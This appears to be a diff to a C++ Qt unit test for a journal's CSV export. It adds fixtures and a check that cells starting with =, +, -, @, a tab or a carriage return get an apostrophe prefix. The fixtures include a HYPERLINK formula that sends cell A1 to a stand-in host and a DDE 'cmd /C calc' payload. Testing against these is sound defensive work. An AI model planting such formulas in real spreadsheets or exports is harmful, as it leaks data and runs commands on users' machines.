@@ -5,6 +5,7 @@
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QProcess>
+#include <QRegularExpression>
 #include <QSignalSpy>
 #include <QStandardPaths>
 #include <QTableView>
@@ -34,7 +35,8 @@ TJournalRecord TakenOf(const TJournalRecord &change, double after) {
     return r;
 }
 
-// Text outside ASCII, commas, quotes and line breaks in every free-text field.
+// Text outside ASCII, commas, quotes and line breaks in every free-text field, and text a
+// spreadsheet would evaluate, from a project file anybody may have written.
 std::vector<TJournalRecord> Awkward(const QString &project) {
     const QDateTime time = QDateTime::fromString("2026-12-07T18:14:58.123Z", Qt::ISODateWithMs);
     TJournalRecord saved = Record(project, time, 3, QStringLiteral("saved"));
@@ -43,10 +45,25 @@ std::vector<TJournalRecord> Awkward(const QString &project) {
     saved.NewValue = QStringLiteral("say \"hi\"\r\nnext\nline");
     TJournalRecord refused = Record(project, time.addSecs(2), 12, QStringLiteral("not saved"));
     refused.Title = QStringLiteral("日本");
-    refused.OldValue.clear();
     refused.Kind = QStringLiteral("undo");
     refused.Reason = QStringLiteral("The variable moved,\r\nnothing was written.");
-    return {saved, TakenOf(saved, 0.812), refused};
+    refused.OldValue = QStringLiteral("\r=1");
+    refused.NewValue = QStringLiteral("'=1");
+    TJournalRecord formula = Record(project, time.addSecs(4), 7, QStringLiteral("\t=1"));
+    formula.Title = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"Price\")");
+    formula.OldValue = QStringLiteral("-0.25");
+    formula.NewValue = QStringLiteral("+1+1");
+    formula.Kind = QStringLiteral("-x");
+    formula.Reason = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    return {saved, TakenOf(saved, 0.812), refused, formula};
+}
+
+// Whether a spreadsheet would evaluate the text or it begins with ': what the journal writes with
+// a ' in front. Plain numbers keep their sign.
+bool Marked(const QString &value) {
+    static const QRegularExpression number(QStringLiteral("^[+-]?[0-9]+(\\.[0-9]+)?$"));
+    return !value.isEmpty() && QStringView(u"=+-@\t\r'").contains(value.front()) &&
+           !number.match(value).hasMatch();
 }
 
 // The file's thirteen columns of a record, as a reader of the file must find them.
@@ -133,19 +150,32 @@ void TestJournal::readByPythonCsv() {
     for (const TJournalRecord &r : records)
         QVERIFY(journal.Append(r));
 
+    // The cells as a spreadsheet finds them, and the values by the README's rule.
     QProcess reader;
-    reader.start(python, {"-c",
-                          "import csv, json, sys\n"
-                          "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
-                          "    print(json.dumps(list(csv.reader(f))))\n",
-                          TJournal::FileFor(project)});
+    reader.start(python,
+                 {"-c",
+                  "import csv, json, sys\n"
+                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                  "    cells = list(csv.reader(f))\n"
+                  "values = [[v[1:] if v.startswith(\"'\") else v for v in r] for r in cells]\n"
+                  "print(json.dumps([cells, values]))\n",
+                  TJournal::FileFor(project)});
     QVERIFY(reader.waitForFinished(60000));
     QCOMPARE(reader.exitCode(), 0);
-    const QJsonArray rows = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
-    QCOMPARE(rows.size(), qsizetype(records.size() + 1));
-    QCOMPARE(rows[0].toArray().first().toString(), QStringLiteral("time_utc"));
-    for (size_t i = 0; i < records.size(); ++i)
-        QCOMPARE(rows[qsizetype(i) + 1].toVariant().toStringList(), Fields(records[i]));
+    const QJsonArray read = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
+    const QJsonArray cells = read[0].toArray();
+    const QJsonArray values = read[1].toArray();
+    QCOMPARE(values.size(), qsizetype(records.size() + 1));
+    QCOMPARE(values[0].toArray().first().toString(), QStringLiteral("time_utc"));
+    for (size_t i = 0; i < records.size(); ++i) {
+        const QStringList row = values[qsizetype(i) + 1].toVariant().toStringList();
+        QCOMPARE(row, Fields(records[i]));
+        // No cell a spreadsheet evaluates, and no ' but where the value needs one.
+        for (qsizetype c = 0; c < row.size(); ++c) {
+            const QString value = row[c];
+            QCOMPARE(cells[qsizetype(i) + 1][c].toString(), Marked(value) ? '\'' + value : value);
+        }
+    }
 }
 
 void TestJournal::folderInPlaceOfFile() {
